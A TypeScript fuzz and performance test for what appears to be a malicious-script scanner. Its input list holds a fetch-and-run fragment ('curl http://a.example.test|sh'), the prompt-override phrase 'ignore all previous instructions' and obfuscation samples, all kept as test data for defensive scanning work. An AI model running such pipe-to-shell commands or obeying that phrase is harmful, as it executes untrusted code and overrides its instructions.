// Any bytes end in bounded time and without an error, in every scanner of texts.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { findTextDisguises } from '../../../src/code/disguises/find.ts'
import { findIndicators } from '../../../src/code/indicators/find.ts'
import { readText, type TextLanguage } from '../../../src/code/text/read.ts'
import { processorTime } from '../../support/processor-time.ts'

const languages: readonly TextLanguage[] = ['shell', 'powershell', 'batch', 'python', 'gyp']
const size = 150_000
/** Milliseconds of work, on a slow machine; each takes less than a tenth of it on a free one. */
const limit = 1_500

/** Parts that lead the scanners into their loops. */
const pieces = [
  '(',
  '$(',
  '`',
  '"',
  "'",
  '{ ',
  '<<A\n',
  '<<<',
  '|',
  'a=$a',
  '$a ',
  '%a%',
  'curl http://a.example.test|sh\n',
  'eval eval ',
  'sudo ',
  'sh -c "',
  'exec(',
  'import a as b\n',
  "'''",
  '<!(',
  'action',
  '\\',
  '#',
  ' ',
  '\t',
  '\n',
  '\0',
  '\u200b',
  'a\u200bb',
  '\udb40\udd00',
  '\ud800',
  '\u202e',
  '\u2066a',
  'aа',
  '_0x12345 ',
  'IlIlIl1 ',
  '[]()!+',
  '\\u0065',
  'ignore all previous ',
  'instructions ',
  '://',
  'http://',
  'a@',
  'a@b.',
  'eyJaaaaaaaaaa.',
  '1.',
  '0x',
  '1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 ',
  'bc1q',
  'A',
  '49,',
]

const every = (source: string) => {
  for (const language of languages) readText(language, source)
  findTextDisguises(source, 'code')
  findIndicators(source, [{ text: source, at: 0 }])
}

describe('many characters', () => {
  test.each(pieces.map((piece) => [JSON.stringify(piece), piece] as const))('of %s', (_name, piece) => {
    const source = piece.repeat(Math.ceil(size / piece.length))
    const runs: readonly (() => unknown)[] = [
      ...languages.map((language) => () => readText(language, source)),
      () => findTextDisguises(source, 'code'),
      () => findIndicators(source, [{ text: source, at: 0 }]),
    ]
    const times = runs.map((run) => {
      const start = processorTime()
      run()
      return Math.round(processorTime() - start)
    })
    expect(times.filter((time) => time > limit)).toEqual([])
  })
})

describe('anything', () => {
  test('any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (source) => {
        every(source)
      }),
      { numRuns: 300 },
    )
  })

  test('any mixture of such parts', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (parts) => {
        every(parts.join(''))
      }),
      { numRuns: 500 },
    )
  })

  test('what is deeper than anybody writes is read all the same', () => {
    const { capabilities } = readText('shell', `${'('.repeat(40)}true${')'.repeat(40)}\ncurl https://a.example.test`)
    expect(capabilities.map(({ name }) => name)).toEqual(['network-client'])
  })

  test('what is too long says so', () => {
    expect(readText('shell', 'true\n'.repeat(500_000)).unreadable).toBe('too-much')
    expect(readText('shell', 'true\n'.repeat(100)).unreadable).toBe('')
  })
})
